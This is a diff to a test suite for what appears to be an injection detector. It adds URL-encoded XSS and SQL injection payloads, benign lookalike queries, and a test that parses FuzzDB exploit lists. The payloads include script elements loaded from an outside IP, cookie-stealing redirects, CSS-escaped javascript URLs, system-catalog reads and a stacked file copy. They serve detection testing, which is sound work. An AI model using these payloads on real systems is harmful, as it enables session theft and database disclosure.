@@ -405,6 +405,10 @@ SQL_LOOKALIKES = [
     b"q=%22Hello%2C%22+she+said.+%27Hi.%27",
     b"q=C%2B%2B+and+C%23",
     b"q=O%27Brien+--+see+you",
+    b"q=read+lines+from+sys.stdin",  # a Python module, not a catalog
+    b"q=I+like+it%3B+describe+yourself",
+    b"q=please+select+current+user",
+    b"q=copy+the+text+from+%27Hamlet%27",
 ]
 
 
@@ -438,6 +442,19 @@ XSS_MARKUP = [
     b"q=%3Bdocument.location%3D%27http%3A%2F%2F198.18.0.1%2F%27%2Bdocument.cookie",
     b"q=%EF%BC%9Cscript%EF%BC%9Ealert%281%29%EF%BC%9C%2Fscript%EF%BC%9E",  # full-width brackets
     b"q=%5Cu003cscript%5Cu003ealert%281%29%5Cu003c%2Fscript%5Cu003e",  # \\u escapes
+    # a sink made an alias and the alias called, or called through `.call`: its name is never followed
+    # by a bracket
+    b"q=k%3Dprompt%3Bm%3Dk%3Bk%28m%29",
+    b"q=x%27%3B%24_%3Dconfirm%2C%24_%281%29%2F%2F",
+    b"q=setTimeout.call%28null%2Cname%29",
+    # an element that runs code made by script
+    b"q=%3Bwith%28document%29body.appendChild%28createElement%28%27script%27%29%29.src%3D%27%2F%2F198.18.0.9%27",
+    # string pieces joined into a name (`'con'+'firm'`) and into a script URL
+    b"q=self%5B%27con%27%2B%27firm%27%5D%281%29",
+    b"q=x%3D%5B%27javas%27%2B%27cript%3Aprom%27%2B%27pt%282%29%27%5D",
+    # CSS escapes a browser decodes before it reads the property
+    b"q=%3Cp+style%3D%22-%5Cmoz-bi%5Cnding%3Aurl%28%2F%2F198.18.0.9%2Fb.xml%23x%29%22%3E",
+    b"q=%3Cp+style%3D%22background%3A%5C75rl%28%27javas%5C63ript%3Ax%28%29%27%29%22%3E",
 ]
 
 
@@ -453,6 +470,9 @@ XSS_LOOKALIKES = [
     b"q=%3Cb%3Ebold%3C%2Fb%3E+and+%3Ci%3Eitalic%3C%2Fi%3E",
     b"q=online+%3D+true",
     b"q=call+confirm+%28yes%29",
+    b"q=level%3Dalert%2C+then+level+%282%29",  # an alias needs a call written as code
+    b"q=see+%27part+1%27%2B%27part+2%27",  # joined strings that make no sink
+    b"q=C%3A%5CUsers%5Cstyle%5Curl+notes",  # backslashes outside CSS
 ]
 
 
@@ -571,6 +591,31 @@ def test_eval_script_scores_crs_style_tests_and_lists(tmp_path: Path) -> None:
     assert ev.RESERVED_LEFT_OUT[-1:] == ["942100-3"]
 
 
+def test_eval_script_reads_fuzzdb_lists_and_its_exploit_strings(tmp_path: Path) -> None:
+    ev = _eval_module()
+    files = {
+        **{name: "" for name in ev.FUZZDB_XSS},
+        ev.FUZZDB_XSS[0]: "# a comment\n<x onxxx=1\nplain words\n",
+        ev.FUZZDB_XSS_WITH_CONTEXT: "Exploit Name: one\nExploit String: <svg onload=alert(1)>\nAuthor: x\n",
+        "attack/sql-injection/detect/a.txt": "' ORDER BY 22-- \nhaving\n",
+        "attack/sql-injection/exploit/b.txt": "1|uname -a\n",
+        "attack/sql-injection/exploit/README.md": "' or 1=1--\n",  # not a list
+    }
+    for name, text in files.items():
+        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
+        (tmp_path / name).write_text(text)
+    rows = ev.evaluate(ev.fuzzdb_cases(ev.Source(tmp_path)))
+    assert {k: (v["hit"], v["total"]) for k, v in rows.items()} == {
+        "fuzzdb xss": (2, 3),
+        "fuzzdb xss [any class]": (2, 3),
+        "fuzzdb sqli": (1, 2),
+        "fuzzdb sqli [any class]": (2, 2),
+        "fuzzdb sqli probes": (0, 1),
+        "fuzzdb sqli probes [any class]": (0, 1),
+    }
+    assert rows["fuzzdb xss"]["misses"] == ["plain words"]
+
+
 # -- generalised signals: payloads written here for each construct (none taken from a corpus) -------------
 
 GENERALISED_SQLI = [
@@ -648,6 +693,17 @@ GENERALISED_SQLI = [
     ('77 as "qq" from accounts', "alias then FROM after a bracket"),  # a literal aliased in a select list
     ("z'+(function(){var t=+new Date;while(+new Date-t<9000){}})()+'", "busy wait on the clock"),
     ('q" ;(function(){var s=Date.now(),e;do{e=Date.now()}while(e-s<7000)})();"', "busy wait on the clock"),
+    # the tables that list users, schemas and tables, read by a query
+    ("1 and 0 union select usename from pg_user", "system catalog read"),
+    ("select name from sys.sql_logins", "system catalog read"),
+    ("x' and exists(select 1 from all_users)--", "system catalog read"),
+    ("select creator from sysibm.systables", "system catalog read"),
+    # the database asked who and what it is; stacked statements that read or copy
+    ("select system_user;", "SQL statement"),
+    ("select database()--", "SQL statement"),
+    ("\\'; desc accounts; --", "stacked statement"),
+    ("1; show grants", "stacked statement"),
+    ("q; copy t from '/etc/hostname'", "stacked statement"),
 ]
 
 
